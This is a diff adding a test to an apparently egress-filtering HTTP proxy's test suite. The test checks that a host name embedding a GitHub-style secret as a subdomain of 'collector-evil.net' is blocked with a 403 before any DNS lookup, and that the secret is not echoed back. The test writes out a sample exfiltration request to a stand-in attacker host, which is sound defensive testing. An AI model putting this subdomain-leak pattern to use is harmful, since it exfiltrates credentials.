@@ -197,3 +197,14 @@ def test_strict_mode_only_allowlist(proxy_factory: Any, upstream: Upstream) -> N
         assert_block(c.get(upstream.url("/x")))
         resp = _raw(p.port, b"CONNECT news.other-site.org:443 HTTP/1.1\r\nHost: news.other-site.org:443\r\n\r\n")
         assert resp.split(b"\r\n")[0].split(b" ")[1] == b"403", resp[:200]
+
+
+def test_secret_in_host_name_blocked_before_any_lookup(proxy: Proxy) -> None:
+    """A name that fails the URL policy is never resolved: the answer is the policy's 403, not a
+    DNS failure (this machine has no resolver that could answer)."""
+    host = f"{S.GITHUB}.collector-evil.net"
+    with proxy.client() as c:
+        body = assert_block(c.get(f"http://{host}/x"), "credential")
+    assert S.GITHUB not in str(body)
+    resp = _raw(proxy.port, f"CONNECT {host}:443 HTTP/1.1\r\nHost: {host}:443\r\n\r\n".encode())
+    assert resp.split(b"\r\n")[0].split(b" ")[1] == b"403", resp[:300]
